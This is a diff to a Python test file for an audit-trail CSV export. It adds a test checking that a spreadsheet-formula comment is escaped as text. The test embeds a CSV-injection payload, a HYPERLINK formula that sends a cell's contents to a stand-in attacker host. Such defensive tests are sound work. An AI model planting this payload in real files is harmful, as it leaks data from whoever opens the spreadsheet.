@@ -1,6 +1,8 @@
 """Directors, finance and administrators read an expert's audit trail: who changed what, when."""
 
+import csv
 import datetime as dt
+import io
 from decimal import Decimal
 
 import pytest
@@ -140,6 +142,24 @@ def test_the_csv_holds_the_same_changes(client, people):
         "Paie,Paie et DAS",
         "2021-03-15 10:30,Marie Tremblay,ajout,MAN-AUD,2021-03-09,,7.00,,Paie",
     ]
+
+
+def test_a_comment_planted_as_a_formula_is_written_as_text_in_the_csv(client, people):
+    """OWASP's CSV injection: an expert's comment starting with = would run in the spreadsheet
+    of whoever opens the audit trail."""
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+    time_entry_record(
+        expert=people.expert,
+        mandate=MandateFactory(code="MAN-AUD"),
+        date=DAY,
+        hours=Decimal("7"),
+        description=planted,
+        by=people.owner,
+    )
+    TimeEntryChange.objects.update(changed_at=dt.datetime(2021, 3, 15, 14, tzinfo=dt.UTC))
+    response = signed_in(client, people.director).get(url("audit_trail_csv"), query(people))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][2:] == ["ajout", "MAN-AUD", "2021-03-09", "", "7.00", "", "'" + planted]
 
 
 def test_the_expert_chooser_offers_only_the_experts_one_may_read(client, people):
